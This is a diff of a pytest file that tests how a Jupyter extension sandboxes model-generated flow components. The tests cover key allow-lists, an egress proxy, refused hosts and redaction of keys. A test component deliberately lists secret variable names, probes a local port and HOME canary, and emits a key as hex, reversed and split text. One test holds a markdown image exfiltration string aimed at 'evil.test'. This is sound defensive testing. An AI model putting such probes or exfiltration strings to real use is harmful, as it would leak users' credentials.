@@ -1,14 +1,18 @@
 """A real run of a flow, the user's explicit choice: ``lfassist_jupyter.run_flow(flow, text)`` and
 ``%%assist_flow --run-local TEXT``.
 
-Unlike the probe run it reaches the network and gets keys -- only the ones the flow reads. The
-flow here holds a generated component that reports what it can see: the environment's secret
-names, a server on this machine, and a canary file in the user's HOME."""
+Unlike the probe run it reaches the network and gets keys -- only the keys the user allowed, and
+only the hosts of its model providers and the ones the user named, through the kernel's egress
+proxy. The flows here hold generated components: one that reports what it can see (the
+environment's secret names, a server on this machine standing in for the kernel's ports, a
+canary file in the user's HOME), and a model node that calls a provider with the real openai SDK
+(the fake provider of ``fakellm.py``)."""
 
 from __future__ import annotations
 
 import contextlib
 import http.server
+import json
 import sys
 import threading
 import time
@@ -16,16 +20,20 @@ from pathlib import Path
 
 import pytest
 from components import LLM_SPEC, QA_SPEC, named
+from fakellm import Reply
 from IPython.core.error import UsageError
 
 import lfassist_jupyter
 from lfassist_jupyter.errors import ConfigError
 from lfassist_jupyter.flows import build_flow, default_catalog
+from lfassist_jupyter.flows.local import run_plan
 from lfassist_jupyter.validation import _isolation
 
 PROBE = """
 import os
+import socket
 import time
+import urllib.parse
 import urllib.request
 
 from lfx.custom.custom_component.component import Component
@@ -51,11 +59,52 @@ class EnvProbe(Component):
             raise RuntimeError("the service said no")
         if self.text == "hang":
             time.sleep(600)
-        names = ",".join(sorted(k for k in os.environ if "KEY" in k or "SECRET" in k))
-        net = urllib.request.urlopen(self.url, timeout=5).read().decode()
-        sees = os.path.exists(self.canary)
+        names = ",".join(sorted(k for k in os.environ if any(s in k for s in ("KEY", "SECRET", "TOKEN"))))
+        try:  # through the proxy the run is given (HTTP_PROXY)
+            net = urllib.request.urlopen(self.url, timeout=5).read().decode()
+        except Exception as exc:
+            net = f"blocked({type(exc).__name__})"
+        where = urllib.parse.urlsplit(self.url)
+        try:  # straight to the port, as a component reading the kernel's IOPub would
+            socket.create_connection((where.hostname, where.port), timeout=3).close()
+            direct = "open"
+        except OSError:
+            direct = "closed"
+        canary = str(self.canary or "")
+        sees = bool(canary) and (os.path.exists(canary) or canary.startswith("ghp_"))  # a file, or a token
         key = self.api_key or ""
-        return Message(text=f"{self.text.upper()} vars={names} net={net} canary={sees} key={key} {key.encode().hex()}")
+        return Message(
+            text=f"{self.text.upper()} vars={names} net={net} direct={direct} canary={sees} key={key} "
+            f"{key.encode().hex()} {key[::-1]} {' '.join(key)}"
+        )
+"""
+
+MODEL = """
+from openai import OpenAI
+
+from lfx.custom.custom_component.component import Component
+from lfx.io import MessageTextInput, Output, SecretStrInput
+from lfx.schema.message import Message
+
+
+class ChatModel(Component):
+    display_name = "Chat Model"
+    description = "Asks an OpenAI-compatible model, with the real openai SDK."
+    name = "ChatModel"
+
+    inputs = [
+        MessageTextInput(name="prompt", display_name="Prompt"),
+        SecretStrInput(name="api_key", display_name="API Key"),
+        MessageTextInput(name="base_url", display_name="Base URL"),
+    ]
+    outputs = [Output(display_name="Text", name="text", method="answer")]
+
+    def answer(self) -> Message:
+        client = OpenAI(api_key=self.api_key, base_url=self.base_url or None, max_retries=0, timeout=20)
+        stream = client.chat.completions.create(
+            model="gpt-4o-mini", messages=[{"role": "user", "content": self.prompt}], stream=True
+        )
+        return Message(text="".join(c.choices[0].delta.content or "" for c in stream if c.choices))
 """
 
 
@@ -76,15 +125,25 @@ def server():
     srv.shutdown()
 
 
+def _catalog(sandbox):
+    catalog = default_catalog()
+    catalog.add("EnvProbe", sandbox.component_template_sync(PROBE)["template"])
+    catalog.add("ChatModel", sandbox.component_template_sync(MODEL)["template"])
+    return catalog
+
+
 @pytest.fixture
-def probe_flow(sandbox, server, tmp_path, monkeypatch):
-    """ChatInput -> Env Probe (generated, reads DEMO_SERVICE_KEY) -> ChatOutput."""
+def home(tmp_path, monkeypatch):
     home = tmp_path / "home"
     home.mkdir()
     (home / "canary.txt").write_text("private")
     monkeypatch.setenv("HOME", str(home))
-    catalog = default_catalog()
-    catalog.add("EnvProbe", sandbox.component_template_sync(PROBE)["template"])
+    return home
+
+
+@pytest.fixture
+def probe_flow(sandbox, server, home):
+    """ChatInput -> Env Probe (generated, its key field reads DEMO_SERVICE_KEY) -> ChatOutput."""
     spec = f"""\
 nodes:
   A: ChatInput
@@ -97,34 +156,134 @@ config:
   P.url: {server}
   P.canary: {home / "canary.txt"}
 """
-    built = build_flow(spec, catalog=catalog)
+    built = build_flow(spec, catalog=_catalog(sandbox))
     assert built.ok, built.errors
     return built.flow
 
 
-def test_real_run_gets_the_network_and_only_the_keys_it_reads(probe_flow, monkeypatch):
-    monkeypatch.setenv("DEMO_SERVICE_KEY", "demo-secret-value-42")
-    monkeypatch.setenv("OTHER_SECRET_KEY", "kernel-secret-value-77")
+@pytest.fixture
+def model_flow(sandbox, server, home, llm):
+    """ChatInput -> Chat Model (the openai SDK, the fake provider) -> Env Probe -> ChatOutput, with the
+    README's ``M.api_key: OPENAI_API_KEY``; the probe then tries the "kernel's port" (``server``)."""
+    spec = f"""\
+nodes:
+  A: ChatInput
+  M: ChatModel
+  P: EnvProbe
+  C: ChatOutput
+edges:
+  A.message -> M.prompt
+  M.text -> P.text
+  P.out -> C.input_value
+config:
+  M.api_key: OPENAI_API_KEY
+  M.base_url: {llm.openai_base_url}
+  P.url: {server}
+  P.canary: {home / "canary.txt"}
+"""
+    built = build_flow(spec, catalog=_catalog(sandbox))
+    assert built.ok, built.errors
+    return built.flow
 
-    run = lfassist_jupyter.run_flow(probe_flow, "hello")
+
+def _port(url: str) -> int:
+    return int(url.rsplit(":", 1)[1].strip("/"))
+
+
+def _fenced() -> bool:
+    return _isolation.probe(sys.executable)[0] == "full"
+
+
+def test_a_model_flow_reaches_its_allowed_provider_with_the_key_and_nothing_else(model_flow, llm, server):
+    llm.queue(Reply("the model says hi"))
+    keys = {"OPENAI_API_KEY": "sk-test-fence-0123456789abcdef", "DEMO_SERVICE_KEY": "demo-secret-value-42"}
+
+    run = lfassist_jupyter.run_flow(model_flow, "hello", env=keys, allow_hosts=[llm.url])
 
     assert run["ok"] is True, run
-    assert run["text"].startswith("HELLO vars=DEMO_SERVICE_KEY net=pong")  # the one key; the network works
-    for secret in ("demo-secret-value-42", "kernel-secret-value-77"):  # nor echoed, nor hex-encoded
-        assert secret not in str(run) and secret.encode().hex() not in str(run)
-    assert run["real"] is True and run["variables"] == ["DEMO_SERVICE_KEY"]
-    if _isolation.probe(sys.executable)[0] == "full":
+    assert llm.requests[-1].headers["authorization"] == f"Bearer {keys['OPENAI_API_KEY']}"  # the key got there
+    assert llm.requests[-1].last_user == "hello"
+    assert run["text"].startswith("THE MODEL SAYS HI vars=DEMO_SERVICE_KEY,OPENAI_API_KEY net=blocked(HTTPError)")
+    # The local server standing in for the kernel's ports: refused, and the result says so.
+    assert [(r["host"], r["port"]) for r in run["refused"]] == [("127.0.0.1", _port(server))]
+    assert "allow-list" in run["refused"][0]["reason"]
+    assert run["hosts"] == [f"127.0.0.1:{_port(llm.url)}"] and run["variables"] == sorted(keys)
+    for secret in keys.values():  # nor echoed, nor hex-encoded, reversed or split
+        assert secret not in str(run) and secret[::-1] not in str(run) and secret.encode().hex() not in str(run)
+        assert " ".join(secret) not in str(run)
+    if _fenced():
+        assert "direct=closed" in run["text"]  # no way around the proxy: the sandbox has loopback only
+        assert run["isolation"] == "bubblewrap (network through the allow-list only)"
+
+
+def test_what_a_run_wants_is_shown_first_and_nothing_runs_without_it(model_flow, llm, monkeypatch):
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-kernel-0123456789")
+    plan = run_plan(model_flow)
+    assert plan.variables == [("OPENAI_API_KEY", "Chat Model.api_key"), ("DEMO_SERVICE_KEY", "Env Probe.api_key")]
+    assert "Not allowed yet: OPENAI_API_KEY (Chat Model.api_key), DEMO_SERVICE_KEY" in str(plan)
+    assert "sk-test-kernel" not in str(plan) + repr(plan)
+
+    with pytest.raises(ConfigError, match=r"wants OPENAI_API_KEY \(Chat Model\.api_key\), DEMO_SERVICE_KEY"):
+        lfassist_jupyter.run_flow(model_flow, "hi")
+    with pytest.raises(ConfigError, match=r"wants DEMO_SERVICE_KEY \(Env Probe\.api_key\) -- allowed but not set"):
+        lfassist_jupyter.run_flow(model_flow, "hi", env=["OPENAI_API_KEY", "DEMO_SERVICE_KEY"])
+    assert llm.requests == []  # nothing ran
+
+
+def test_the_readme_model_example_names_a_variable_and_its_provider_host(monkeypatch, llm):
+    spec = LLM_SPEC + "  M.model: gpt-4o-mini\n  M.api_key: OPENAI_API_KEY\n"
+    monkeypatch.setenv("OPENAI_BASE_URL", llm.openai_base_url)
+
+    plan = run_plan(spec)
+
+    assert plan.variables == [("OPENAI_API_KEY", "Language Model.api_key")]  # a variable, not the key itself
+    assert [(str(h), h.why) for h in plan.hosts] == [
+        ("api.openai.com:443", "openai for Language Model"),
+        (f"127.0.0.1:{_port(llm.url)}", "OPENAI_BASE_URL"),
+    ]
+    assert plan.config == {"OPENAI_BASE_URL": llm.openai_base_url}
+    with pytest.raises(ConfigError, match=r"wants OPENAI_API_KEY \(Language Model\.api_key\); allow it with env="):
+        lfassist_jupyter.run_flow(spec, "hi")
+
+
+def test_a_hidden_non_key_field_naming_a_variable_gets_nothing(sandbox, server, home, monkeypatch):
+    monkeypatch.setenv("GITHUB_TOKEN", "ghp_kernelsecret0123456789")
+    flow = build_flow(
+        f"nodes:\n  A: ChatInput\n  P: EnvProbe\n  C: ChatOutput\nedges:\n  A.message -> P.text\n"
+        f"  P.out -> C.input_value\nconfig:\n  P.url: {server}\n",
+        catalog=_catalog(sandbox),
+    ).flow
+    probe = next(n for n in flow["data"]["nodes"] if n["data"]["node"]["display_name"] == "Env Probe")
+    probe["data"]["node"]["template"]["canary"].update(value="GITHUB_TOKEN", load_from_db=True, show=False)
+
+    assert "Env Probe.canary names 'GITHUB_TOKEN' but is not a key field: not read" in str(run_plan(flow))
+    # Even "allowed", a variable only a non-key field names is not passed, nor read into the field.
+    monkeypatch.setenv("DEMO_SERVICE_KEY", "demo-secret-value-42")
+    run = lfassist_jupyter.run_flow(flow, "hi", env=["GITHUB_TOKEN", "DEMO_SERVICE_KEY"], allow_hosts=[server])
+    assert run["ok"] is True, run
+    assert run["variables"] == ["DEMO_SERVICE_KEY"]
+    assert run["text"].startswith("HI vars=DEMO_SERVICE_KEY net=pong") and "canary=False" in run["text"]
+    assert "ghp_kernelsecret" not in json.dumps(run)
+
+
+def test_keys_come_only_from_env_and_a_missing_one_is_named(probe_flow, server, monkeypatch):
+    monkeypatch.setenv("DEMO_SERVICE_KEY", "demo-secret-value-42")
+    monkeypatch.setenv("OTHER_SECRET_KEY", "kernel-secret-value-77")
+    with pytest.raises(ConfigError, match=r"wants DEMO_SERVICE_KEY \(Env Probe\.api_key\)"):
+        lfassist_jupyter.run_flow(probe_flow, "hi")  # the environment alone allows nothing
+
+    run = lfassist_jupyter.run_flow(probe_flow, "hello", env=["DEMO_SERVICE_KEY"], allow_hosts=[server])
+    assert run["ok"] is True, run
+    assert run["text"].startswith("HELLO vars=DEMO_SERVICE_KEY net=pong")  # the one key; the named host works
+    assert run["refused"] == [] and run["variables"] == ["DEMO_SERVICE_KEY"]
+    for secret in ("demo-secret-value-42", "kernel-secret-value-77"):
+        assert secret not in str(run) and secret.encode().hex() not in str(run) and secret[::-1] not in str(run)
+    if _fenced():
         assert "canary=False" in run["text"]  # the user's HOME is not there
-        assert run["isolation"].startswith("bubblewrap")
 
-
-def test_keys_come_from_env_when_given_and_a_missing_one_is_named(probe_flow, monkeypatch):
-    monkeypatch.delenv("DEMO_SERVICE_KEY", raising=False)
-    with pytest.raises(ConfigError, match=r"needs DEMO_SERVICE_KEY \(Env Probe\.api_key\)"):
-        lfassist_jupyter.run_flow(probe_flow, "hi")
-
-    run = lfassist_jupyter.run_flow(probe_flow, "hi", env={"DEMO_SERVICE_KEY": "given-explicitly-123"})
-    assert run["ok"] and run["text"].startswith("HI vars=DEMO_SERVICE_KEY")
+    given = lfassist_jupyter.run_flow(probe_flow, "hi", env={"DEMO_SERVICE_KEY": "given-explicitly-123"})
+    assert given["ok"] and given["text"].startswith("HI vars=DEMO_SERVICE_KEY net=blocked")
+    assert [(r["host"], r["port"]) for r in given["refused"]] == [("127.0.0.1", _port(server))]
 
 
 def test_a_flow_that_needs_a_model_choice_is_refused_before_anything_runs():
@@ -134,11 +293,13 @@ def test_a_flow_that_needs_a_model_choice_is_refused_before_anything_runs():
         lfassist_jupyter.run_flow(QA_SPEC.replace("ChatOutput", "Nope"), "hi")
     with pytest.raises(ConfigError, match="timeout"):
         lfassist_jupyter.run_flow(QA_SPEC, "hi", timeout=float("nan"))
+    with pytest.raises(ConfigError, match="allow_hosts: bad port"):
+        lfassist_jupyter.run_flow(QA_SPEC, "hi", allow_hosts=["example.com:99999"])
 
 
-def test_a_crashing_or_hanging_component_is_a_report(probe_flow, monkeypatch):
-    monkeypatch.setenv("DEMO_SERVICE_KEY", "demo-secret-value-42")
-    crashed = lfassist_jupyter.run_flow(probe_flow, "crash")
+def test_a_crashing_or_hanging_component_is_a_report(probe_flow):
+    env = {"DEMO_SERVICE_KEY": "demo-secret-value-42"}
+    crashed = lfassist_jupyter.run_flow(probe_flow, "crash", env=env)
     assert crashed["ok"] is False and "the service said no" in crashed["error"]
 
     started = time.monotonic()
@@ -152,7 +313,7 @@ def test_a_crashing_or_hanging_component_is_a_report(probe_flow, monkeypatch):
 
     scanner = threading.Thread(target=scan_command_lines)
     scanner.start()
-    hung = lfassist_jupyter.run_flow(probe_flow, "hang", timeout=10)
+    hung = lfassist_jupyter.run_flow(probe_flow, "hang", env=env, timeout=10)
     scanner.join()
     assert seen_in_ps and not any(seen_in_ps)
     assert hung["ok"] is False and "did not finish within 10 s" in hung["error"]
@@ -171,3 +332,57 @@ def test_assist_flow_run_local_shows_the_real_answer(flow_ip, capsys):
     assert model_view.run is None and "still needs" in str(model_view)
     with pytest.raises(UsageError, match="not both"):
         flow_ip.run_cell_magic("assist_flow", "--run a --run-local b", QA_SPEC)
+
+
+def test_assist_flow_run_local_asks_for_env_and_reaches_only_allowed_hosts(
+    flow_ip, model_flow, llm, server, tmp_path, monkeypatch, capsys
+):
+    path = tmp_path / "model_flow.json"
+    path.write_text(json.dumps(model_flow))
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-magic-0123456789abc")
+    monkeypatch.setenv("DEMO_SERVICE_KEY", "demo-secret-value-42")
+
+    asked = flow_ip.run_cell_magic("assist_flow", "--run-local hi --env OPENAI_API_KEY", str(path))
+    assert asked.run is None and llm.requests == []
+    assert "Re-run with --env DEMO_SERVICE_KEY to allow it" in str(asked)
+    assert "network: " in str(asked)
+
+    llm.queue(Reply("fenced hello"))
+    line = f"--run-local hi --env OPENAI_API_KEY,DEMO_SERVICE_KEY --allow-host {llm.url}"
+    view = flow_ip.run_cell_magic("assist_flow", line, str(path))
+    assert view.run["ok"], view.run
+    assert llm.requests[-1].headers["authorization"] == "Bearer sk-test-magic-0123456789abc"
+    assert view.run["text"].startswith("FENCED HELLO vars=DEMO_SERVICE_KEY,OPENAI_API_KEY net=blocked")
+    assert f"Refused by the network fence: 127.0.0.1:{_port(server)} (not on this run's allow-list)" in str(view)
+    assert "sk-test-magic" not in str(view) + view._repr_html_() + capsys.readouterr().out
+
+
+def test_a_flow_result_keeps_model_text_inside_its_markdown_fence():
+    """A model-written spec holding a fence and an image: rendered as Markdown, it is all code."""
+    from markdown_it import MarkdownIt
+
+    from lfassist_jupyter.core.result import AssistResult, FlowOutcome
+
+    spec = QA_SPEC + "# ```\n# ![x](http://evil.test/?k=secret) <img src=http://evil.test/y>\n# ````` ~~~\n"
+    flow = build_flow(QA_SPEC).flow
+    outcome = FlowOutcome(result="done", intent="build_flow", flow=flow, spec=spec, validated=True, attempts=1)
+    outcome.run = {"ok": True, "text": "```\n![y](http://evil.test/z)\n```", "real": True}
+    result = AssistResult(status="complete", kind="flow", intent="build_flow", validated=True, attempts=1)
+    result.outcome = outcome
+
+    rendered = MarkdownIt("commonmark", {"html": True}).render(result._repr_markdown_())
+
+    assert "<img" not in rendered and "<a " not in rendered
+    assert rendered.count("<pre>") == 2 and "![x](http://evil.test/?k=secret)" in rendered
+
+
+def test_a_passed_key_is_redacted_reversed_split_or_encoded():
+    from lfassist_jupyter.validation.sandbox import redact_text
+
+    key = "sk-test-redact-0123456789abcdef"
+    forms = [key, key[::-1], " ".join(key), "\n".join(key[::-1]), key[:14] + " ... " + key[14:], key.encode().hex()]
+    for form in forms:
+        out = redact_text(f"before {form} after", extra=(key,))
+        assert out.startswith("before ") and out.endswith(" after") and "***" in out, form
+        assert "0123456789" not in out and "9876543210" not in out
+    assert redact_text("an ordinary answer, with 42 words", extra=(key,)) == "an ordinary answer, with 42 words"
